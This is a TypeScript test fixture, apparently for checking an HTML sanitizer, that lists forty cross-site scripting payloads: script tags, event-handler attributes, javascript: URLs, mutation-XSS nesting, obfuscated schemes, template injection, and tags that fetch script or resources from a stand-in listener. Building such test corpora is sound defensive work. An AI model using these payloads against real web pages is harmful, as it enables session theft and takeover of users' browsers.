/**
 * Forty texts that run, fetch or lead away where they are taken for HTML. Each sets `__pwned` on the window, or asks the
 * listener at `sink` for something.
 */
export function hostileBodies(sink: string): readonly string[] {
  const run = 'window.__pwned=1';
  return [
    `<script>${run}</script>`,
    `<SCRIPT SRC=${sink}/x.js></SCRIPT>`,
    `<img src=x onerror=${run}>`,
    `<img src="${sink}/pixel.png">`,
    `<img src=x onerror="&#119;indow.__pwned=1">`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
    `<iframe src="javascript:parent.__pwned=1"></iframe>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<iframe src="${sink}/frame"></iframe>`,
    `<object data="javascript:${run}"></object>`,
    `<object data="${sink}/object"></object>`,
    `<embed src="${sink}/embed">`,
    `<a href="javascript:${run}">a</a>`,
    `<a href=" java\tscript:${run}">b</a>`,
    `<form action="javascript:${run}"><button>c</button></form>`,
    `<form action="${sink}/form"><input name=x value=y></form>`,
    `<base href="${sink}/">`,
    `<meta http-equiv="refresh" content="0;url=${sink}/refresh">`,
    `<link rel=stylesheet href="${sink}/style.css">`,
    `<link rel=prefetch href="${sink}/prefetch">`,
    `<style>@import "${sink}/import.css"; body{background:url(${sink}/css)}</style>`,
    `<div style="background:url(${sink}/inline)">d</div>`,
    `<body onload=${run}>`,
    `<video src=x onerror=${run}></video>`,
    `<audio src=x onerror=${run}></audio>`,
    `<details open ontoggle=${run}>e</details>`,
    `<input autofocus onfocus=${run}>`,
    `<select autofocus onfocus=${run}>`,
    `<marquee onstart=${run}>f</marquee>`,
    `<template><img src=x onerror=${run}></template>`,
    `"><img src=x onerror=${run}>`,
    `'-${run}-'`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `{{constructor.constructor('${run}')()}}`,
    `\u003cimg src=x onerror=${run}\u003e\u2028${run}`,
  ];
}
